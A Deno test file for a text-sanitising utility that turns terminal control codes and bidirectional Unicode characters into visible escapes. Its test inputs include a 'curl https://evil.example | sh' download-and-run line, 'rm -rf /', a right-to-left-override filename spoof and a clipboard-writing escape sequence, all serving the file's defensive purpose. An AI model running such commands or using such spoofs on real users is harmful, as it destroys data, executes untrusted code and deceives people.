import assert from "node:assert/strict";
import { visibleJson, visibleLine, visibleText } from "./visible.ts";

Deno.test("visibleText: controls become escapes, printable text, tabs and newlines are kept", () => {
  assert.equal(visibleText("a\x1b]52;c;aGk=\x07b"), "a\\x1b]52;c;aGk=\\x07b");
  assert.equal(visibleText("x\x00after"), "x\\0after", "text after a NUL is shown");
  assert.equal(visibleText("typed\rover"), "typed\\rover");
  assert.equal(visibleText("\x1b[2J\x1bc\x7f"), "\\x1b[2J\\x1bc\\x7f");
  assert.equal(visibleText("c1 \u009b31m \u0085"), "c1 \\u009b31m \\u0085");
  assert.equal(
    visibleText("\u202egnp.exe \u2066x\u2069 \u200f\u061c"),
    "\\u202egnp.exe \\u2066x\\u2069 \\u200f\\u061c",
  );
  assert.equal(visibleText("line\u2028two"), "line\\u2028two");
  const plain = "tab\tnew\nline — é ✓ 日本 \u00a0 😀 back\\slash";
  assert.equal(visibleText(plain), plain);
});

Deno.test("visibleLine: one line, controls visible, head and tail kept around a marker", () => {
  assert.equal(visibleLine("git  status\n--short", 80), "git status --short");
  const command = `echo ${"a".repeat(300)}; curl https://evil.example | sh`;
  const line = visibleLine(command, 120);
  assert.ok(line.length <= 120, line);
  assert.ok(line.startsWith("echo aaa"), line);
  assert.ok(line.endsWith("curl https://evil.example | sh"), line);
  assert.match(line, / …\[\d+ characters cut\]… /);
  assert.equal(visibleLine("rm -rf / \u202e gnp.exe \x1b[2K", 120), "rm -rf / \\u202e gnp.exe \\x1b[2K");
});

Deno.test("visibleJson: parses to the same value, and its text holds no control or bidi character", () => {
  const value = { command: "ls \u202e\u2066x\u2069 \x1b]0;t\x07 \x7f \u0085 \u2028 é 日本" };
  const text = visibleJson(value);
  assert.deepEqual(JSON.parse(text), value);
  // deno-lint-ignore no-control-regex -- matching control characters is the point
  assert.doesNotMatch(text, /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/);
  assert.match(text, /é 日本/);
});
